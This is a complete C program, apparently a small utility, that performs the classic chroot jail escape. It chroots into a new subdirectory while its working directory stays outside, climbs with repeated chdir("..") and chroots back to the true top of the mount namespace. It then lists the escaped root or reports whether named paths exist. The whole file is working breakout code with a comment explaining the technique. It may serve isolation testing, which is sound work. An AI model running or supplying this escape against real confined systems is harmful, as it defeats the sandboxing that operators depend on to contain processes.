#define _GNU_SOURCE
/*
 * escape: the classic way out of a chroot(2) jail, then a look around.
 *
 *   escape [PATH...]
 *
 * chroot(2) changes the root directory but not the working directory. A
 * process that may call chroot (root, with CAP_SYS_CHROOT) chroots into a
 * subdirectory while its working directory stays above it: ".." is then
 * never stopped at the root, so repeated chdir("..") climbs to the top of
 * its mount namespace, and chroot(".") makes that the root.
 *
 * Afterwards, print "PATH: present" or "PATH: absent" for each PATH, or,
 * without PATHs, the names in the new "/". Exit 0, or 2 if a call failed.
 * Built statically, so that it runs in any root filesystem.
 */
#include <dirent.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define JAIL "/.escape-jail"

static void die(const char *what)
{
	fprintf(stderr, "escape: %s: %s\n", what, strerror(errno));
	exit(2);
}

static void list_root(void)
{
	DIR *dir = opendir("/");
	struct dirent *entry;

	if (!dir)
		die("opendir /");
	while ((entry = readdir(dir)))
		if (strcmp(entry->d_name, ".") && strcmp(entry->d_name, ".."))
			puts(entry->d_name);
	closedir(dir);
}

int main(int argc, char **argv)
{
	struct stat st;

	if (chdir("/") == -1)
		die("chdir /");
	if (mkdir(JAIL, 0700) == -1 && errno != EEXIST)
		die("mkdir " JAIL);
	/* The working directory, "/", is now outside the root. */
	if (chroot(JAIL) == -1)
		die("chroot " JAIL);
	/* Far more levels than any real path has: ".." at the top stays there. */
	for (int i = 0; i < 256; i++)
		if (chdir("..") == -1)
			die("chdir ..");
	if (chroot(".") == -1)
		die("chroot .");
	if (chdir("/") == -1)
		die("chdir /");

	if (argc < 2)
		list_root();
	for (int i = 1; i < argc; i++)
		printf("%s: %s\n", argv[i], stat(argv[i], &st) == 0 ? "present" : "absent");
	return 0;
}
